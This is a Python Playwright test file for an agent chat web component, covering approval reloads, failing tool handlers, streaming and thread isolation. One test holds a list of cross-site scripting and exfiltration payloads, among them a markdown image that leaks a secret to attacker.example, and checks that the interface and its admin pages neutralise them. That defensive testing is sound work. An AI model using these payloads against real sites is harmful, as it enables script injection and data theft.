"""Known faults of this kind of software that only a real browser shows; see tests/faults.md."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.people import (
    message_field,
    say,
    sign_in,
    thread_text,
    wait_until_idle,
)
from tests.flow.demo_server import DemoServer

pytestmark = [pytest.mark.browser, pytest.mark.flow]

STORE = 'document.querySelector("agentui-chat").shadowRoot.querySelector("agentui-thread").store'
HOSTILE = [
    "![x](https://attacker.example/p.png?leak=SECRET)",
    "<img src=//attacker.example/p.png?d=1 onerror=alert(1)>",
    "[open](javascript:alert(1))",
    "[open](JaVaScRiPt&#58;alert(1))",
    "[doc](data:text/html;base64,PHNjcmlwdD4=)",
    "<svg onload=alert(1)>",
    "<style>*{background:url(https://attacker.example/)}</style>",
    "<script>alert(1)</script>",
    "</div></template><iframe src=https://attacker.example>",
    '<a href="https://x" style="position:fixed;inset:0">all of it',
]


def state_of_call(page: Page) -> Any:
    return page.evaluate(
        f"(({{ id, status, tool_name, args_text, approval }}) => ({{ id, status, tool_name, args_text,"
        f" approval: approval.id, may: approval.may_decide }}))({STORE}.toolCalls()[0])"
    )


def test_fault_36_an_approval_is_the_same_after_a_reload(ada: Page) -> None:
    say(ada, 'call rename_shop {"name": "Kiln"}')
    approve = ada.locator("agentui-approval-card").get_by_role("button", name="Approve")
    expect(approve).to_be_visible()
    streamed = state_of_call(ada)
    ada.wait_for_url("**/t/*/")
    ada.reload()
    expect(approve).to_be_visible()
    assert state_of_call(ada) == streamed
    approve.click()
    wait_until_idle(ada)
    expect(ada.get_by_text("It is called Kiln now.").last).to_be_visible()


def test_fault_56_a_handler_of_the_page_that_fails_ends_there(ada: Page) -> None:
    """Once for each call, not again for what history holds, and an error is no loop."""
    ada.evaluate(
        """() => {
            window.__runs = 0;
            document.querySelector("agentui-chat").registry.registerTool({
                name: "explode", handler: () => { window.__runs++; throw new Error("no"); },
            });
        }"""
    )
    for times in (1, 2):
        say(ada, "call explode")
        # Between the call and the page's turn a run waits, and the chat is idle.
        expect(ada.locator("agentui-tool-card").get_by_text("Failed")).to_have_count(times)
        wait_until_idle(ada)
        assert ada.evaluate("window.__runs") == times


def test_fault_59_a_reload_goes_on_in_the_answer_that_was_being_written(ada: Page) -> None:
    say(ada, "say The first answer.")
    wait_until_idle(ada)
    say(ada, "write 400")
    expect(ada.get_by_text("Every word").last).to_be_visible()
    ids = f"{STORE}.messages.map((message) => message.id)"
    before = ada.evaluate(ids)
    ada.reload()
    expect(ada.get_by_text("Every word").last).to_be_visible()
    wait_until_idle(ada)
    assert ada.evaluate(ids) == before
    answers = [text for role, text in thread_text(ada) if role == "assistant"]
    assert answers[0] == "The first answer."
    assert answers[1].count("Every word of this answer") == 28


def test_fault_62_an_answer_stays_in_its_thread_whatever_is_open(ada: Page) -> None:
    say(ada, "hello")
    wait_until_idle(ada)
    ada.wait_for_url("**/t/*/")
    first = ada.url
    ada.get_by_role("button", name="New chat").first.click()
    say(ada, "write 400")
    expect(ada.get_by_text("Every word").last).to_be_visible()
    ada.wait_for_function("(url) => location.href !== url", arg=first)
    second = ada.url
    for _ in range(3):
        ada.locator("agentui-thread-item").nth(1).click()
        expect(ada.get_by_text("You said: hello")).to_be_visible()
        assert [text for _, text in thread_text(ada)][1:] == ["You said: hello"]
        ada.locator("agentui-thread-item").nth(0).click()
        expect(ada.get_by_text("Every word").last).to_be_visible()
        assert "You said" not in json.dumps(thread_text(ada))
    assert ada.url == second
    wait_until_idle(ada)
    assert thread_text(ada)[1][1].count("Every word of this answer") == 28


def test_fault_63_a_page_that_nobody_sees_has_the_whole_answer_and_its_connection(
    ada: Page,
) -> None:
    """Frames are not drawn and timers rest; what arrives is folded in all the same."""
    ada.evaluate(
        """() => {
            window.requestAnimationFrame = () => 0;
            Object.defineProperty(document, "visibilityState", { get: () => "hidden" });
            document.dispatchEvent(new Event("visibilitychange"));
        }"""
    )
    say(ada, "write 400")
    ada.wait_for_function(
        f"() => {STORE}.messages.at(-1)?.status.type === 'complete' && {STORE}.messages.length === 2",
        polling=100,  # the frames that it would wait for do not come
    )
    text = ada.evaluate(f"{STORE}.messages.at(-1).parts[0].text")
    assert text.count("Every word of this answer") == 28
    expect(ada.locator("agentui-message").last).to_contain_text("Every word")
    expect(ada.get_by_text("Connection lost")).to_have_count(0)


def test_fault_81_nothing_that_a_model_a_tool_or_a_person_writes_asks_for_anything(
    ada: Page, server: DemoServer
) -> None:
    """In the answer, the card, its raw view, the approval, the title, and on the admin's pages."""
    foreign: list[str] = []

    def watch(page: Page) -> None:
        page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
        page.on(
            "request", lambda r: None if r.url.startswith(server.url) else foreign.append(r.url)
        )

    watch(ada)
    everything = "\n\n".join(HOSTILE)
    say(ada, "say " + everything)
    wait_until_idle(ada)
    say(ada, "call repeat " + json.dumps({"text": everything}))
    wait_until_idle(ada)
    for details in ada.locator("agentui-tool-card").last.locator("summary").all():
        details.click()
    say(ada, "call close_shop " + json.dumps({"reason": everything}))
    expect(ada.locator("agentui-approval-card")).to_contain_text("attacker.example")
    ada.evaluate(
        """(title) => {
            const { client, thread } = document.querySelector("agentui-chat");
            return client.threads.rename(thread, title);
        }""",
        "".join(HOSTILE)[:190],
    )
    expect(ada.locator("agentui-chat h2").first).to_contain_text("![x]")
    ada.wait_for_timeout(300)
    inside = "agentui-chat :is(img, svg[onload], iframe, style, [style*=fixed], a[href^='java' i], a[href^=data])"
    assert ada.locator(inside).count() == 0
    assert message_field(ada).is_editable()

    thread = ada.url.rstrip("/").rpartition("/")[2]
    approval = server.query(f"Approval.objects.get(thread='{thread}').pk")
    sign_in(ada.context, server, "admin")
    admin = ada.context.new_page()
    watch(admin)
    for path in (
        f"/admin/agentui/thread/{thread}/change/",
        "/admin/agentui/thread/",
        f"/admin/agentui/approval/{approval}/change/",
        "/admin/agentui/approval/",
        "/agentui/api/threads/",
    ):
        admin.goto(server.url + path)
        assert admin.locator("img[src*=attacker], iframe, a[href^='java' i]").count() == 0
    assert foreign == []
